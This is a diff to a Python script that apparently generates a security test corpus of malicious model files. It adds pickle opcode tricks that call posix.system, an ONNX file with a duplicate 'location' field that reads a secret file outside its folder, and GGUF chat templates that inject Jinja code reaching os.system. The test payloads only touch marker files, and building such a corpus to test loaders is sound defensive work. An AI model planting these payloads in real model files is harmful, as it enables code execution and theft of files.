@@ -456,6 +456,15 @@ def cat1():
     i = 'c1-multiprocessing-spawnv'
     add(i, c, 'pickle', 'bookworm', 'multiprocessing.util.spawnv_passfds(sh, argv, ())', 'google/saferpickle#18',
         pkl(Call(G('multiprocessing.util', 'spawnv_passfds'), b'/bin/sh', ['/bin/sh', '-c', touch(i)], ())))
+    i = 'c1-inst-opcode'
+    add(i, c, 'pickle', 'bookworm', 'protocol 0 INST opcode: MARK, args, INST posix system calls it without REDUCE', FK,
+        b'(V' + touch(i).encode() + b'\niposix\nsystem\n.')
+    i = 'c1-obj-opcode'
+    add(i, c, 'pickle', 'bookworm', 'protocol 1 OBJ opcode: MARK, callable, args, OBJ calls it without REDUCE', FK,
+        b'(cposix\nsystem\nV' + touch(i).encode() + b'\no.')
+    i = 'c1-memo-overwrite'
+    add(i, c, 'pickle', 'bookworm', 'memo slot 1 holds builtins.list, then is overwritten by posix.system; BINGET 1 is called', FK,
+        b'\x80\x02cbuiltins\nlist\nq\x010cposix\nsystem\nq\x010h\x01V' + touch(i).encode() + b'\n\x85R.')
     i = 'c1-pandas-optional-import'
     add(i, c, 'pickle', 'bookworm', "pandas.compat._optional.import_optional_dependency('os') then methodcaller", PS,
         pkl(Call(Call(G('operator', 'methodcaller'), 'system', touch(i)),
@@ -940,6 +949,11 @@ def cat7():
     for i, loader, what, mk, functions, opsets, locations in models:
         g = mk(None)
         add_onnx(i, c, loader, what, model(g, opsets), locations)
+    t = pmsg((1, [SECRET_LEN]), (2, UINT8), (8, 'W'),
+             (13, [pmsg((1, 'location'), (2, 'weights.bin')), pmsg((1, 'location'), (2, rel)), pmsg((1, 'length'), (2, str(SECRET_LEN)))]), (14, 1))
+    add_onnx('c7-duplicate-location', c, 'onnxruntime',
+             "an initializer with two 'location' entries: a decoy weights.bin inside the folder, then one climbing out (the last wins)",
+             model(graph([node('Identity', ['W'], ['Y'])], [out], inits=[t])), 'decoy')
     for i, loader, locname, loc in (('c7-function', 'onnxruntime', None, rel), ('c7-function-symlink', 'onnx', 'link', 'weights.bin')):
         g, fs = func_model(loc)
         add_onnx(i, c, loader, 'a Constant inside a model-local function' + (' through a symlink' if locname else ''),
@@ -986,6 +1000,15 @@ def cat8():
         "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
         "{% if message['role'] == 'user' %}{{ lipsum.__globals__.os.system('CMD') if false else '' }}{{ cycler.__init__.__globals__.os.system('CMD') and '' }}{% endif %}{% endfor %}"
         "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}", "hidden inside a realistic chat loop")
+    benign = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}"
+    i = 'c8-duplicate-key'
+    add(i, c, 'jinja', 'bookworm', 'two tokenizer.chat_template keys: a benign one, then the payload (a dict of the metadata keeps the last)', SSTI,
+        gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', benign),
+              ('tokenizer.chat_template', "{{ lipsum.__globals__.os.system('%s') }}" % touch(i))]), ext='gguf')
+    i = 'c8-named-template'
+    add(i, c, 'jinja', 'bookworm', 'a benign default template and a payload in tokenizer.chat_template.rag, which llama-cpp-python registers as a chat handler', SSTI,
+        gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', benign),
+              ('tokenizer.chat_template.rag', "{{ cycler.__init__.__globals__.os.system('%s') }}" % touch(i))]), ext='gguf')
     for i, (t, what) in T.items():
         add(i, c, 'jinja', 'bookworm', 'tokenizer.chat_template reaches os through %s; rendering runs a command' % what, SSTI,
             chat_gguf(t.replace('CMD', touch(i))), ext='gguf')
@@ -1017,6 +1040,9 @@ def main():
             f.write(data)
         if locations == 'link':
             os.symlink('../../../../secret/secret.bin', os.path.join(d, 'weights.bin'))
+        if locations == 'decoy':
+            with open(os.path.join(d, 'weights.bin'), 'wb') as f:
+                f.write(b'\0' * SECRET_LEN)
     corpus = {
         'about': 'Malicious files built by scripts/adversarial/make.py; load.py runs each through its loader. '
         'Markers: /out/<id>. ONNX files read %s (mounted by the test) into a tensor.' % SECRET,
